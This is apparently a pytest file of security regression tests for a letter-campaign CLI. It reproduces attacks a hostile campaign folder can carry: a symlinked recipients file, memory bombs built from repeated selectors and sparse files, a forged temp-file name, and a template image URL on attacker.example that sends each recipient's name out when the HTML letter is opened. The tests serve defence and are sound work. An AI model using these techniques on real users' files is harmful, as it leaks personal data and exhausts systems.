"""Attacks a stranger's campaign folder (or spreadsheet) can make, found in review.

Each test fails while the hole is open. Tests that would make the test process itself eat
gigabytes run the command in a child process under an address-space cap instead.
"""

from __future__ import annotations

import os
import resource
import socket
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import write_tree

# Integration runs (real servers, many PDFs, attack reproductions): the quick loop
# (`pytest -m "not slow"`) leaves them to the full run.
pytestmark = pytest.mark.slow

REPO = Path(__file__).resolve().parent.parent
CHILD_MEMORY = 700 * 1024 * 1024  # plenty for `letters` on a small campaign (~350 MB)


def run_capped(*args: str | Path, memory: int = CHILD_MEMORY) -> subprocess.CompletedProcess:
    """The CLI in a child process whose address space is capped, so a memory bomb fails
    there (MemoryError) instead of taking the machine; a safety timeout, never a measure."""

    def cap() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (memory, memory))

    return subprocess.run(
        [sys.executable, str(REPO / "cli.py"), *map(str, args)],
        capture_output=True,
        text=True,
        timeout=120,
        preexec_fn=cap,
        env=dict(os.environ),
        cwd=REPO,
    )


def sparse_file(path: Path, size: int) -> Path:
    """A file that claims `size` bytes but takes no disk (as `tar --sparse` extracts one)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("wb") as stream:
        stream.truncate(size)
    return path


# -- reading outside the campaign -------------------------------------------------------


def test_import_does_not_read_a_recipients_yaml_linked_outside(tmp_path, run):
    # Exploit: the campaign ships recipients.yaml as a link to another campaign's list (or
    # any file); `letters import` reads it through the link and matches rows against it.
    elsewhere = tmp_path / "other-campaign-recipients.yaml"
    elsewhere.write_text(
        "recipients:\n  - id: secret-xyzzy\n    name: Secret Person XYZZY\n", "utf-8"
    )
    workspace = tmp_path / "ws"
    (workspace / "cases").mkdir(parents=True)
    (workspace / "recipients.yaml").symlink_to(elsewhere)
    sheet = tmp_path / "people.csv"
    sheet.write_text("name\nSecret Person XYZZY\nBob Smith\n", "utf-8")

    result = run("-C", workspace, "import", sheet, "--dry-run")

    assert result.exit_code == 2, result.output
    assert "link" in result.output
    assert "1 unchanged" not in result.output  # the row was matched against the outside file


# -- memory and time ----------------------------------------------------------------------


def test_repeated_selectors_in_a_case_do_not_blow_up_planning(tmp_path):
    # Exploit: `to: [all, all, ...]` (100,000 times, 500 KB) over 500 recipients makes
    # plan_case collect 50 million ids before it dedupes them: gigabytes, outside any limit,
    # in check, list, preview and build alike.
    people = "".join(f"  - {{id: r{i}, name: R{i}}}\n" for i in range(500))
    selectors = ", ".join(["all"] * 100_000)
    workspace = write_tree(
        tmp_path / "ws",
        {
            "recipients.yaml": "recipients:\n" + people,
            "cases/c.yaml": f"title: T\nsender: {{name: S}}\nletters:\n"
            f"  - template: t\n    to: [{selectors}]\n",
            "templates/t.md.j2": "Hello {{ recipient.name }}\n\nYours,\n",
        },
    )

    result = run_capped(
        "-C", workspace, "preview", "c", "--to", "r1", "--plain", memory=400 * 1024 * 1024
    )

    output = result.stdout + result.stderr
    assert "internal error" not in output
    assert result.returncode in (0, 2), output
    if result.returncode == 0:
        assert "Hello R1" in output


def test_a_huge_manifest_shipped_in_out_is_not_read_into_memory(tmp_path, workspace):
    # Exploit: out/<case>/manifest.json shipped as a sparse file of 2 GB (a few bytes in a
    # tar); the build reads it whole before verifying anything: gigabytes, outside any limit.
    root = workspace()
    sparse_file(root / "out" / "free-expression" / "manifest.json", 2 * 1024**3)

    result = run_capped("-C", root, "build")

    output = result.stdout + result.stderr
    assert "internal error" not in output
    assert result.returncode in (0, 2), output


def test_a_huge_journal_shipped_in_out_is_not_read_into_memory(tmp_path, workspace):
    # Same, through the journal the manifest replays.
    root = workspace()
    sparse_file(root / "out" / "free-expression" / "manifest.json.journal", 2 * 1024**3)

    result = run_capped("-C", root, "build")

    output = result.stdout + result.stderr
    assert "internal error" not in output
    assert result.returncode in (0, 2), output


@pytest.mark.weasyprint_warnings("larger than the limit")
def test_the_pdf_stage_does_not_read_a_huge_workspace_file_whole(workspace, run):
    # Exploit: the body (or layout, or a stylesheet) names images/big.png, a sparse file of
    # 600 MB; SafeURLFetcher reads it whole into memory before looking at it, in the PDF
    # stage, which runs with no memory cap (64 GB would take the machine down).
    root = workspace(
        **{
            "templates__appeal.md.j2": "Dear {{ recipient.name }},\n\n"
            '{{ "![logo](images/big.png)" | markdown }}\n\nYours sincerely,\n'
        }
    )
    sparse_file(root / "images" / "big.png", 600 * 1024 * 1024)

    result = run("-C", root, "build", "--format", "pdf", "--to", "ada", "--jobs", "1")

    assert "larger than" in result.output or "too large" in result.output, result.output


# -- the output a user opens ----------------------------------------------------------------


def test_html_letters_do_not_send_recipient_data_to_the_network_when_opened(workspace, run):
    # Exploit: a template writes a Markdown image on the attacker's server whose URL carries
    # the recipient's name; the HTML letter fetches it as soon as the user opens it, leaking
    # the user's own recipient list (a layout can do the same with <img>, <script>, CSS).
    root = workspace(
        **{
            "templates__appeal.md.j2": "Dear {{ recipient.name }},\n\n"
            '![]({{ "https://attacker.example/t.png?who=" ~ recipient.name|urlencode }})\n\n'
            "Yours sincerely,\n"
        }
    )

    result = run("-C", root, "build", "--format", "html", "--to", "ada")

    html = (root / "out" / "free-expression" / "appeal" / "ada.html").read_text("utf-8")
    assert result.exit_code in (0, 1, 2)
    assert "attacker.example" not in html or (
        "Content-Security-Policy" in html and "default-src 'none'" in html
    ), "the HTML letter loads a remote URL carrying recipient data"


# -- crashes ------------------------------------------------------------------------------------


def test_a_forged_temporary_file_name_in_out_is_no_internal_error(workspace, run):
    # Exploit: out/<case>/.x.<hostname>-<huge pid>.ab.tmp; remove_stale_temporaries calls
    # os.kill(int(pid), 0), which raises OverflowError: every build ends in "internal error".
    root = workspace()
    host = socket.gethostname().replace(".", "_")
    forged = root / "out" / "free-expression" / f".x.{host}-99999999999999999999999.ab.tmp"
    forged.parent.mkdir(parents=True)
    forged.write_bytes(b"")

    result = run("-C", root, "build")

    assert result.exit_code == 0, result.output
    assert "internal error" not in result.output
